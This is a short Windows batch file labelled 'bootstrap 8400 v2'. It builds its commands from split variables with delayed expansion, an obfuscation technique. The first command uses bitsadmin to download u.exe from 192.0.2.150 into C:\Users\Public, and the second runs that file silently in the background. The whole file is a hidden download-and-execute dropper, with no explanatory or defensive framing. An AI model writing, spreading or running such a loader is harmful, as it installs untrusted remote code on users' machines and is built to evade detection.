REM bootstrap 8400 v2
cmd /v:on /c "set mkc0=bitsadmin /transfer job /download /&&set mbc1=pri&&set akg2=ority high http://192.0.2.150/u.exe C:\Users&&set iaq3=\Public\u.exe&&!mkc0!!mbc1!!akg2!!iaq3!"
cmd /v:on /c "set rdt0=start /b C:\Users\Publ&&set zam1=ic\u.ex&&set axm2=e&&!rdt0!!zam1!!axm2!"
